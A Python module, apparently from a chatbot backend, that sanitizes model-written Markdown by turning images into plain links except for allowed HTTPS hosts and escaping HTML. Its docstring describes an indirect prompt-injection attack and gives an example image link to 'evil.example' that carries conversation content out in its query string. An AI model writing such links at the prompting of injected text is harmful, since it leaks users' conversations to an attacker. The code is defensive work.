"""Makes Markdown load nothing: images become links, HTML becomes visible text.

A text that a model reads can make it write `![](https://evil.example/?d=<what was said>)`. A client that loads this
image sends what was said to the author of that text, without a click.
"""

from __future__ import annotations

import re
from collections.abc import Set as AbstractSet

from app.bot.rendering.markdown_inline import (
    AUTOLINK,
    HARMLESS_TAG,
    IMAGE_TAG,
    MAX_CODE_CHARACTERS,
    MAX_LABEL_CHARACTERS,
    PUNCTUATION,
    CodeRuns,
)
from app.bot.rendering.markdown_lines import Kind, Line, read_lines

_LIVE = re.compile(rf"(?:\\?!)+|\\{PUNCTUATION}|`+|<")
_TAG_START = re.compile(r"<[A-Za-z/!?]")
_NO_LABEL = re.compile(r"[\s\\]{0,20}\]")
_LABEL = "image"
_ADDRESS = r"(https?)://([A-Za-z0-9.-]{1,253})(?::[0-9]{1,5})?(?:[/?#][\w.~:/?#@$&*+,;=%-]{0,1500})?"
_WEB_ADDRESS = re.compile(_ADDRESS, re.ASCII)
_IMAGE = re.compile(
    rf"""\[[^\[\]!<>`\\\n]{{0,{MAX_LABEL_CHARACTERS - 4}}}\]\({_ADDRESS}(?: "[^"\\\n<>`|\[\]]{{0,300}}")?\)""", re.ASCII
)
_ATTRIBUTE = re.compile(r"""[\s/"'](src|alt)[ \t]{0,5}=[ \t]{0,5}("[^"]*"|'[^']*'|[^\s"'>]+)""", re.IGNORECASE)
_NOT_IN_A_LABEL = re.compile(r"[^\w .,:;()/-]")
_CELL_END = re.compile(r"\\.|\|")
_MAX_DELIMITER = 1_000


def sanitize(text: str, image_hosts: AbstractSet[str] = frozenset()) -> str:
    """`text` with links instead of images, except for images from `image_hosts`. Code stays as it is."""
    if "<" not in text and "![" not in text:
        return text
    sanitizer = _Sanitizer(image_hosts)
    return "".join(sanitizer.line(line, text[line.start + len(line.body) : line.end]) for line in read_lines(text))


class _Sanitizer:
    def __init__(self, image_hosts: AbstractSet[str]) -> None:
        self._image_hosts = image_hosts
        # Set for the rest of a paragraph in which a run of backticks is open at the end of a line: readers disagree on
        # what is code there.
        self._doubt = False
        self._pipe_in_code = False

    def line(self, line: Line, line_end: str) -> str:
        body = line.body
        # A long answer may be split after the first line of code, and what follows would be no code then.
        if line.kind is Kind.BLANK or (line.literal and line.kind is not Kind.FENCE_OPEN):
            self._doubt = self._pipe_in_code = False
            return body + line_end
        after_pipe_in_code, self._pipe_in_code = self._pipe_in_code, False
        if line.fence is not None:
            self._doubt = True
        if after_pipe_in_code and not body[line.content :][:_MAX_DELIMITER].strip("|:- \t\r"):
            # This line would make the line before it the head of a table, in which the code would be no code.
            return f"{body[: line.content]}\\{body[line.content :]}{line_end}"
        if "<" in body or "`" in body or "![" in body:
            body = body[: line.content] + self._content(body[line.content :], cells=line.cells)
        return body + line_end

    def _content(self, text: str, *, cells: bool) -> str:
        if not cells:
            return self._neutral(text, cell=False)
        ends = [found.start() for found in _CELL_END.finditer(text) if found[0] == "|"]
        starts = [0, *(end + 1 for end in ends)]
        return "|".join(
            self._neutral(text[start:end], cell=bool(ends))
            for start, end in zip(starts, [*ends, len(text)], strict=True)
        )

    def _neutral(self, text: str, *, cell: bool) -> str:
        runs = CodeRuns(text)
        out: list[str] = []
        position = 0
        while found := _LIVE.search(text, position):
            out.append(text[position : found.start()])
            replaced, position = self._replaced(text, found, runs, cell=cell)
            out.append(replaced)
        return "".join([*out, text[position:]])

    def _replaced(self, text: str, found: re.Match[str], runs: CodeRuns, *, cell: bool) -> tuple[str, int]:
        """What `found` is replaced with, and the position to go on at."""
        start, end = found.span()
        mark = found[0]
        if mark[-1] == "!":
            return self._image(text, mark, end) if text.startswith("[", end) else (mark, end)
        if mark[0] == "`":
            end = self._code_end(start, end, runs)
            self._pipe_in_code = self._pipe_in_code or (not cell and "|" in text[start:end])
            return text[start:end], end
        if mark == "<":
            return self._tag(text, start, at_line_start=start == 0 and not cell)
        if mark == "\\<" and _TAG_START.match(text, start + 1):
            return "&lt;", end
        self._doubt = self._doubt or mark == "\\`"
        return mark, end

    def _code_end(self, start: int, end: int, runs: CodeRuns) -> int:
        if self._doubt:
            return end
        closed = runs.closing(end, end - start)
        if closed is None or closed - start > MAX_CODE_CHARACTERS:
            self._doubt = True
            return end
        return closed

    def _image(self, text: str, bangs: str, bracket: int) -> tuple[str, int]:
        image = _IMAGE.match(text, bracket)
        if image and bangs == "!" and self._shows(image[1], image[2]):
            return bangs + image[0], image.end()
        if _NO_LABEL.match(text, bracket + 1):
            return f"[{_LABEL}", bracket + 1
        return "", bracket

    def _tag(self, text: str, start: int, *, at_line_start: bool) -> tuple[str, int]:
        link = AUTOLINK.match(text, start)
        if link is not None:
            return link[0], link.end()
        tag = HARMLESS_TAG.match(text, start)
        # At the beginning of a line it would begin a block of HTML.
        if tag is not None and not at_line_start:
            return tag[0], tag.end()
        image = IMAGE_TAG.match(text, start)
        if image is not None:
            attributes = {name.lower(): value.strip("\"'") for name, value in _ATTRIBUTE.findall(image[0])}
            address = _WEB_ADDRESS.fullmatch(attributes.get("src", ""))
            if address is not None:
                label = " ".join(_NOT_IN_A_LABEL.sub(" ", attributes.get("alt", "")).split()) or _LABEL
                shown = "!" if self._shows(address[1], address[2]) else ""
                apart = " " if text.endswith(("!", "<"), 0, start) else ""
                return f"{apart}{shown}[{label}]({address[0]})", image.end()
        return ("&lt;" if _TAG_START.match(text, start) else "<"), start + 1

    def _shows(self, scheme: str, host: str) -> bool:
        return scheme == "https" and host.lower() in self._image_hosts
